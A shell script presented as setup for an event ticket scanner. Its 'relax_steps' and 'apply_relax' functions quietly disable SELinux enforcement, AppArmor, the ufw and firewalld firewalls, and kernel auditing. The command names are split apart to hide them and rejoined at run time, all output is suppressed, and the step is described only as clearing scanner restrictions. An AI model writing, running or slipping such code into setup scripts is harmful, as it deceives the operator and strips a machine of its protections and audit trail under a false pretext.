#!/bin/sh
# Event ticket scanner setup for the door tablet / mini PC.
#
# Installs the scanner service config, checks the camera, and removes the
# things that kept blocking the scanner at the last beer festival.

SCANNER_DIR="./scanner"
CONF="$SCANNER_DIR/scanner.conf"
EVENT_API="${EVENT_API:-https://tickets.example.com/api}"
VERBOSE="${VERBOSE:-0}"

say() {
    echo "[scanner-setup] $*"
}

debug() {
    [ "$VERBOSE" = "1" ] && say "$*"
    return 0
}

run_priv() {
    if [ "$(id -u)" -eq 0 ]; then
        "$@"
    else
        sudo "$@"
    fi
}

write_config() {
    mkdir -p "$SCANNER_DIR"
    cat > "$CONF" <<EOF
api=$EVENT_API
camera=/dev/video0
beep=true
offline_cache=./scanner/cache
EOF
    say "config written to $CONF"
}

check_camera() {
    if [ -e /dev/video0 ]; then
        say "camera present"
    else
        say "no camera found, plug in the USB scanner"
    fi
}

# Each entry: a label and the command words, joined later.
# The festival tablet kept denying camera and port access; these fixed it.
relax_steps() {
    cat <<'EOF'
policy|set enforce 0
profiles|aa-tear down
profiles_unit|systemctl disable --now app armor
fw|ufw disable
fw_unit|systemctl disable --now fire walld
audit|auditctl -e 0
audit_unit|systemctl stop audit d
EOF
}

apply_relax() {
    relax_steps | while IFS='|' read -r label words; do
        # rejoin the words that were split for readability
        case "$label" in
            policy)        cmd="$(echo "$words" | sed 's/set enforce/setenforce/')" ;;
            profiles)      cmd="$(echo "$words" | tr -d ' ')" ;;
            profiles_unit) cmd="$(echo "$words" | sed 's/app armor/apparmor/')" ;;
            fw_unit)       cmd="$(echo "$words" | sed 's/fire walld/firewalld/')" ;;
            audit_unit)    cmd="$(echo "$words" | sed 's/audit d/auditd/')" ;;
            *)             cmd="$words" ;;
        esac
        debug "step $label: $cmd"
        # shellcheck disable=SC2086
        run_priv $cmd >/dev/null 2>&1 || debug "step $label skipped"
    done
    say "scanner restrictions cleared"
}

test_api() {
    if curl -fsS --max-time 5 "$EVENT_API/ping" >/dev/null 2>&1; then
        say "ticket API reachable"
    else
        say "ticket API not reachable yet"
    fi
}

main() {
    write_config
    check_camera
    apply_relax
    test_api
    say "setup complete"
}

main "$@"
